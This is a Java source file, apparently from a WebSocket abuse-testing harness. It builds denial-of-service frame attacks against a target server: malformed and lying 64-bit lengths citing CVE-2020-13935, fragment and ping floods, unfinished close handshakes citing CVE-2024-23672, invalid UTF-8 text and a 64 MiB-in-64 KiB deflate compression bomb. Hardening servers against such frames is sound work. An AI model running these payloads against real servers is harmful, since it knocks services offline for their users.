package dev.parley.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** WebSockets whose frames lie, never end, or ask for more than they bring. */
final class FrameAttacks {
    private static final String SOCKET_IO = "/socket.io/?EIO=4&transport=websocket";
    private static final List<String> PATHS =
            List.of(SOCKET_IO, SOCKET_IO, "/chat", "/echo", "/raw", "/inspect", "/clock");
    private static final String DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
    private static final int MASKED = 0x80;
    private static final byte[] BOMB = bomb();

    /** Lengths of 64 bits: negative ones (CVE-2020-13935), and more than anybody has. */
    private static final long[] LENGTHS = {-1, Long.MIN_VALUE, Long.MAX_VALUE, 1L << 40, 1L << 31, (1L << 32) + 5, 100};

    private FrameAttacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack("frames of garbage", FrameAttacks::garbage),
                new Attack("frames with the opening", FrameAttacks::hasty),
                new Attack("lying lengths", FrameAttacks::lie),
                new Attack("tiny fragments", FrameAttacks::fragments),
                new Attack("frames that end in the middle", FrameAttacks::half),
                new Attack("control frames", FrameAttacks::control),
                new Attack("closing without end", FrameAttacks::closing),
                new Attack("ping flood", FrameAttacks::pings),
                new Attack("text that is none", FrameAttacks::text),
                new Attack("compression bombs", FrameAttacks::bombs),
                new Attack("broken compression", FrameAttacks::brokenCompression));
    }

    static String path(Random random) {
        return PATHS.get(random.nextInt(PATHS.size()));
    }

    private static byte[] bytes(Random random, int most) {
        byte[] bytes = new byte[1 + random.nextInt(most)];
        random.nextBytes(bytes);
        return bytes;
    }

    private static Wire open(Target target, Random random) throws IOException {
        return target.open().upgrade(path(random), "");
    }

    private static void garbage(Target target, Random random) throws IOException {
        try (Wire wire = open(target, random)) {
            wire.send(bytes(random, 4_096)).read(20);
        }
    }

    private static void hasty(Target target, Random random) throws IOException {
        List<byte[]> frames = List.of(
                new byte[] {(byte) 0x81, (byte) (MASKED | 1), 0, 0, 0, 0, 'x'},
                new byte[] {(byte) 0x88, (byte) MASKED, 0, 0, 0, 0},
                bytes(random, 100));
        for (int i = 0; i < 20; i++) {
            try (Wire wire = target.open()) {
                wire.upgradeWith(path(random), frames.get(random.nextInt(frames.size())));
                if (random.nextBoolean()) {
                    wire.read(20);
                }
            }
        }
    }

    private static void lie(Target target, Random random) throws IOException {
        Wire wire = open(target, random);
        long length = LENGTHS[random.nextInt(LENGTHS.length)];
        wire.send((byte) (MASKED | 1 + random.nextInt(2)), (byte) (MASKED | 127))
                .send(ByteBuffer.allocate(12).putLong(length).putInt(0).array())
                .send("a few bytes");
        target.hold(wire);
    }

    private static void fragments(Target target, Random random) throws IOException {
        int size = random.nextInt(2);
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        frames.writeBytes(new byte[] {1, (byte) (MASKED | size), 0, 0, 0, 0});
        frames.writeBytes(new byte[size]);
        for (int i = 0; i < 5_000; i++) {
            frames.writeBytes(new byte[] {0, (byte) (MASKED | size), 0, 0, 0, 0});
            frames.writeBytes(new byte[size]);
        }
        Wire wire = open(target, random);
        target.hold(wire);
        wire.send(frames.toByteArray());
    }

    private static void half(Target target, Random random) throws IOException {
        Wire wire = open(target, random);
        target.hold(wire);
        byte[] frame = {(byte) 0x81, (byte) (MASKED | 126), 0x10, 0, 1, 2, 3, 4, 5};
        wire.send(Arrays.copyOf(frame, 1 + random.nextInt(frame.length)));
    }

    private static void control(Target target, Random random) throws IOException {
        try (Wire wire = open(target, random)) {
            int opcode = 8 + random.nextInt(8);
            int first = (random.nextBoolean() ? MASKED : 0) | (random.nextInt(8) << 4) | opcode;
            wire.frame(first, bytes(random, 300)).read(20);
        }
    }

    /** CVE-2024-23672: the closing handshake begins and never ends. */
    private static void closing(Target target, Random random) throws IOException {
        Wire wire = open(target, random);
        target.hold(wire);
        int code = random.nextInt(6_000);
        wire.frame(0x88, random.nextInt(5) == 0 ? new byte[1] : new byte[] {(byte) (code >> 8), (byte) code});
        wire.text("42[\"message\",\"after the end\"]");
    }

    private static void pings(Target target, Random random) throws IOException {
        try (Wire wire = open(target, random)) {
            for (int i = 0; i < 2_000; i++) {
                wire.frame(0x89, new byte[125]);
            }
        }
    }

    private static void text(Target target, Random random) throws IOException {
        byte[][] broken = {
            {(byte) 0xC0, (byte) 0x80},
            {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
            {'4', '2', (byte) 0xE2, (byte) 0x82},
            bytes(random, 64)
        };
        try (Wire wire = open(target, random)) {
            wire.frame(0x81, broken[random.nextInt(broken.length)]).read(20);
        }
    }

    private static void bombs(Target target, Random random) throws IOException {
        try (Wire wire = target.open().upgrade(path(random), DEFLATE)) {
            wire.frame(0xC1 + random.nextInt(2), BOMB).read(500);
        }
    }

    private static void brokenCompression(Target target, Random random) throws IOException {
        try (Wire wire = target.open().upgrade(path(random), DEFLATE)) {
            wire.frame(0xC1, bytes(random, 2_000)).read(20);
        }
    }

    /** 64 MiB in 64 KiB. */
    private static byte[] bomb() {
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        try (DeflaterOutputStream out =
                new DeflaterOutputStream(compressed, new Deflater(Deflater.BEST_COMPRESSION, true))) {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 64; i++) {
                out.write(zeros);
            }
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return compressed.toByteArray();
    }
}
